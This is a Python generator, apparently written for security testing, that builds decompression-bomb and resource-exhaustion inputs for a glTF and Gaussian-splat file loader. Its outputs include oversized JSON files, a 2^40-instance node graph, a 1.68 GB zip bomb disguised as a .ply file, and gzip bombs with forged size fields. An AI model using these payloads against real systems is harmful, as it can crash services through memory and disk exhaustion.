#!/usr/bin/env python3
"""Issue 10 attack inputs (bounded: ~0.5 GB of disk at most). Usage: gen.py OUTDIR [BASE_SPLAT_GLTF]"""
import gzip, json, os, struct, sys, zipfile, zlib

out = sys.argv[1]
os.makedirs(out, exist_ok=True)
P = lambda n: os.path.join(out, n)

def big_json(name, head, body_writer, tail):
    if os.path.exists(P(name)):
        return
    with open(P(name), 'w') as f:
        f.write(head); body_writer(f); f.write(tail)

asset = '{"asset":{"version":"2.0"},'
# section 5: JSON that costs memory
big_json('string64m.gltf', asset + '"extras":{"s":"', lambda f: [f.write('a' * (1 << 20)) for _ in range(64)], '"}}')
big_json('datauri48m.gltf', asset + '"buffers":[{"byteLength":36000000,"uri":"data:application/octet-stream;base64,',
         lambda f: [f.write('A' * (1 << 20)) for _ in range(48)], '"}]}')
big_json('empty-objects18m.gltf', asset + '"extras":[{}', lambda f: [f.write(',{}' * (1 << 18)) for _ in range(24)], ']}')
big_json('numbers26m.gltf', asset + '"extras":[0', lambda f: [f.write(',1.5e3' * (1 << 18)) for _ in range(17)], ']}')
big_json('nodes25m.gltf', asset + '"scenes":[{"nodes":[0]}],"nodes":[{}', lambda f: [f.write(',{}' * (1 << 18)) for _ in range(32)], ']}')
big_json('nodes-children25m.gltf', asset + '"scenes":[{"nodes":[0]}],"nodes":[{"children":[1',
         lambda f: [f.write(',1' * (1 << 18)) for _ in range(48)], ']},{}]}')

# section 4: 2^40 instances: node i lists node i+1 twice, 40 levels, the last holds a mesh
nodes = [{"children": [i + 1, i + 1]} for i in range(40)] + [{"mesh": 0}]
g = {"asset": {"version": "2.0"}, "scene": 0, "scenes": [{"nodes": [0]}], "nodes": nodes,
     "meshes": [{"primitives": [{"attributes": {"POSITION": 0}, "mode": 0}]}],
     "accessors": [{"componentType": 5126, "count": 1, "type": "VEC3", "min": [0, 0, 0], "max": [0, 0, 0]}]}
json.dump(g, open(P('pow2-mesh.gltf'), 'w'))

if len(sys.argv) > 2:
    base = json.load(open(sys.argv[2]))
    b = dict(base)
    b['nodes'] = [{"mesh": 0} for i in range(200_000)]
    b['scenes'] = [{"nodes": list(range(200_000))}]
    b['scene'] = 0
    json.dump(b, open(P('splat-200k-nodes.gltf'), 'w'))
    b2 = dict(base)
    b2['nodes'] = [{"children": [i + 1, i + 1]} for i in range(40)] + [{"mesh": 0}]
    b2['scenes'] = [{"nodes": [0]}]
    b2['scene'] = 0
    json.dump(b2, open(P('splat-pow2.gltf'), 'w'))

# zip bomb: one 1.68 GB entry of zeros (deflate ~1030:1 -> ~1.6 MB), named like a splat
if not os.path.exists(P('bomb.zip')):
  zi = zipfile.ZipInfo('bomb.ply')
  zi.compress_type = zipfile.ZIP_DEFLATED
  with zipfile.ZipFile(P('bomb.zip'), 'w') as z, z.open(zi, 'w', force_zip64=True) as e:
      head = b'ply\nformat binary_little_endian 1.0\nelement vertex 28000000\nproperty float x\nproperty float y\nproperty float z\nproperty float f_dc_0\nproperty float f_dc_1\nproperty float f_dc_2\nproperty float opacity\nproperty float scale_0\nproperty float scale_1\nproperty float scale_2\nproperty float rot_0\nproperty float rot_1\nproperty float rot_2\nproperty float rot_3\nend_header\n'
      e.write(head)
      zero = bytes(1 << 20)
      for _ in range(1600):
          e.write(zero)

# gzip-bomb SPZ v2: header claims N splats of SH0 (19 bytes each), stream of zeros that inflates to far more,
# trailer ISIZE forged to what the header implies
def spz(name, count, inflated, forge):
    if os.path.exists(P(name)):
        return
    hdr = struct.pack('<IIIBBBB', 0x5053474e, 2, count, 0, 12, 0, 0)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    crc = zlib.crc32(hdr)
    parts = [co.compress(hdr)]
    left = inflated - len(hdr)
    chunk = bytes(1 << 20)
    while left > 0:
        c = chunk[:min(left, len(chunk))]
        crc = zlib.crc32(c, crc)
        parts.append(co.compress(c)); left -= len(c)
    parts.append(co.flush())
    isize = (16 + count * 19) if forge else inflated
    with open(P(name), 'wb') as f:
        f.write(b'\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff')
        for p in parts: f.write(p)
        f.write(struct.pack('<II', crc & 0xffffffff, isize & 0xffffffff))
spz('bomb-small-count.spz', 1000, 1800 << 20, True)       # header: 1000 splats; stream 1.8 GB
spz('bomb-consistent.spz', (1800 << 20) // 19, 16 + (1800 << 20) // 19 * 19, False)  # header count matches the 1.8 GB stream
print('\n'.join(sorted(f'{os.path.getsize(P(n)):>12} {n}' for n in os.listdir(out))))
